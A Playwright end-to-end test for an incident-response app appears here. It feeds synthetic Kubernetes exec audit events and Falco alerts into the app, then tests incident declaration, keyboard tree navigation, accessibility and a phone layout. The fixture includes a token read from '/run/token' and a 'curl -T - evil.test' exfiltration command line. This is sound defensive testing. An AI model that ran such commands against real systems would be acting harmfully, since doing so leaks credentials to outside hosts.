import { expect, type Page, type PlaywrightWorkerArgs, test } from '@playwright/test';
import { DIALOG, expectClean } from './axe';
import { makeEventToken } from './fixtures/event-token';
import { open } from './fixtures/open';
import { signInAs } from './fixtures/sign-in';
import { complaintsOf } from './walk';

/** Milliseconds until the worker has raised an alert and the page has looked again. */
const RAISED = 60_000;
const PHONE = { width: 390, height: 844 };

type Machine = {
  readonly playwright: PlaywrightWorkerArgs['playwright'];
  readonly baseURL: string | undefined;
  readonly token: string;
};

async function send({ playwright, baseURL, token }: Machine, shape: string, records: readonly object[]): Promise<void> {
  const machine = await playwright.request.newContext({ baseURL });
  const headers = { authorization: `Bearer ${token}` };
  const data = records.map((record) => JSON.stringify(record)).join('\n');
  const sent = await machine.post(`/api/v1/events/${shape}?sender=parts`, { headers, data });
  expect(sent.status(), await sent.text()).toBe(202);
  await machine.dispose();
}

const moment = (seconds: number) => new Date(Date.now() - 60_000 + seconds * 1000).toISOString();

/** Somebody enters a pod, reads a file there and calls outside. */
async function attack(machine: Machine, pod: string): Promise<void> {
  const began = moment(0);
  await send(machine, 'k8s-audit', [
    {
      ...{ kind: 'Event', apiVersion: 'audit.k8s.io/v1', auditID: pod, stage: 'ResponseStarted', verb: 'get' },
      ...{ stageTimestamp: began.replace('Z', '000Z'), user: { username: 'kate@example.test' } },
      requestURI: `/api/v1/namespaces/pay/pods/${pod}/exec?command=%2Fbin%2Fbash&container=web&stdin=true&tty=true`,
      objectRef: { resource: 'pods', subresource: 'exec', namespace: 'pay', name: pod },
      ...{ sourceIPs: ['10.0.0.5'], responseStatus: { code: 101 } },
    },
  ]);
  const record = (seconds: number, rule: string, priority: string, fields: object) => ({
    ...{ uuid: `${pod} ${rule}`, rule, priority, output: rule, time: moment(seconds).replace('Z', '123456Z') },
    output_fields: {
      ...{ 'k8s.ns.name': 'pay', 'k8s.pod.name': pod, 'container.name': 'web', 'container.id': pod },
      ...fields,
    },
  });
  const shell = { 'proc.pname': 'bash', 'proc.ppid': 900 };
  await send(machine, 'falco', [
    record(1, 'Terminal shell in container', 'Notice', {
      ...{ 'proc.name': 'bash', 'proc.cmdline': 'bash', 'proc.pname': 'runc', 'proc.pid': 900, 'proc.ppid': 890 },
    }),
    record(10, 'Read a token', 'Warning', {
      ...{ ...shell, 'proc.name': 'cat', 'proc.cmdline': 'cat token', 'proc.pid': 901, 'fd.name': '/run/token' },
    }),
    record(20, 'Call outside', 'Critical', {
      ...{ ...shell, 'proc.name': 'curl', 'proc.cmdline': 'curl -T - evil.test', 'proc.pid': 902 },
      'fd.name': '10.1.2.3:40000->198.51.100.66:443',
    }),
  ]);
}

/** From the alert of the pod to an incident of low urgency. @returns its address */
async function declare(page: Page, pod: string): Promise<string> {
  await open(page, `/alerts?q=${pod}`);
  await page.locator('[data-row-link]').first().click({ timeout: RAISED });
  await page.getByRole('button', { name: 'Declare an incident…' }).click();
  const dialog = page.locator(DIALOG);
  await dialog.getByRole('combobox', { name: 'Kind' }).click();
  await page.getByRole('option', { name: 'Leaked secret' }).click();
  await dialog.getByRole('radio', { name: /P3/ }).first().check({ force: true });
  await dialog.getByRole('button', { name: 'Declare', exact: true }).click();
  await page.waitForURL(/\/incidents\/\d+$/);
  return new URL(page.url()).pathname;
}

/** Through the tree of what an exec led to by keys alone. */
async function traceByKeys(page: Page, incident: string, pod: string): Promise<void> {
  await open(page, `${incident}/timeline?q=pod:${pod}`);
  await page.getByRole('table').getByRole('button', { name: 'get pods/exec' }).click();
  const tree = page.getByRole('tree');
  const lines = tree.getByRole('treeitem');
  await expect(lines.first()).toContainText('bash');
  await expectClean(page, 'the trace of an exec', 'aside[aria-label]');
  // One line alone is in the order of Tab.
  await expect(tree.locator('[tabindex="0"]')).toHaveCount(1);
  const all = await lines.count();
  await tree.locator('[tabindex="0"]').focus();
  await page.keyboard.press('ArrowLeft');
  await expect(lines).toHaveCount(1);
  await expect(lines.first()).toHaveAttribute('aria-expanded', 'false');
  await page.keyboard.press('ArrowRight');
  await expect(lines).toHaveCount(all);
  await page.keyboard.press('ArrowRight');
  await expect(lines.nth(1)).toBeFocused();
  await page.keyboard.press('Home');
  await expect(lines.first()).toBeFocused();
  await page.keyboard.press('End');
  await expect(lines.last()).toBeFocused();
  await page.keyboard.press('Home');
  // A letter looks for a line.
  await page.keyboard.press('c');
  await expect(tree.locator(':focus')).toContainText('cat token');
}

test('an exec is traced by keys, and its tree is clean', async ({ page, playwright, baseURL }) => {
  const token = await makeEventToken(page);
  await page.context().clearCookies();
  await signInAs(page, 'responder');
  const complaints = complaintsOf(page);
  const pod = `parts-${Date.now()}`;
  await attack({ playwright, baseURL, token }, pod);
  const incident = await declare(page, pod);
  await traceByKeys(page, incident, pod);
  expect(complaints).toEqual([]);
});

test('what is set for incidents is read and asked for on a phone', async ({ page }) => {
  await page.setViewportSize(PHONE);
  await signInAs(page, 'admin');
  const complaints = complaintsOf(page);
  const dialog = page.locator(DIALOG);
  const fits = async (what: string) => {
    await expect(dialog).toBeVisible();
    const box = await dialog.boundingBox();
    expect(box && box.x >= 0 && box.x + box.width <= PHONE.width, what).toBe(true);
    await expectClean(page, what, DIALOG);
    await page.keyboard.press('Escape');
    await expect(dialog).toHaveCount(0);
  };
  await open(page, '/settings/incidents');
  await page.getByRole('button', { name: 'New rule…' }).click();
  await fits('a new rule');
  await page
    .getByRole('button', { name: /Versions of / })
    .first()
    .click();
  await fits('versions of a rule');
  await page
    .getByRole('button', { name: /^Switch off: / })
    .first()
    .click();
  await fits('a regime that never applies');
  await open(page, '/settings/escalation');
  await expectClean(page, 'ways and chains on a phone', '#main');
  expect(complaints).toEqual([]);
});
